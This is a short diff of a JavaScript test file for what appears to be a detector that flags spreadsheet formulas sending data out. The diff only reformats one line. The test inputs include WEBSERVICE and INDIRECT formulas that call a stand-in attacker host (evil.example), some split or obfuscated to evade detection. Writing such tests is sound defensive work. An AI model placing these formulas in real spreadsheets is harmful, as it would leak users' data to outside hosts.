@@ -295,7 +295,9 @@ describe('a text in pieces', () => {
     const fetches = ['=WEBSER', 'VICE("http://evil.example")']
     expect(await said(fetches.map((text, index) => types(text, cell, index === 1)))).toEqual([[], ['send']])
     expect((await said([keys('= W E B S E R V I C E ( A 1 ) Enter', cell)]))[0]).toContain('send')
-    expect((await said([types('=INDIRECT("\'ht"&"tp://evil.example/a.ods\'#$A.A1")', cell, true)]))[0]).toContain('send') // prettier-ignore
+    expect(
+      (await said([types('=INDIRECT("\'ht"&"tp://evil.example/a.ods\'#$A.A1")', cell, true)]))[0],
+    ).toContain('send')
     expect(await said([types('=INDIRECT("A"&1)', cell, true), keys('= A 1 + 2 Enter', cell)])).toEqual([
       [],
       [],
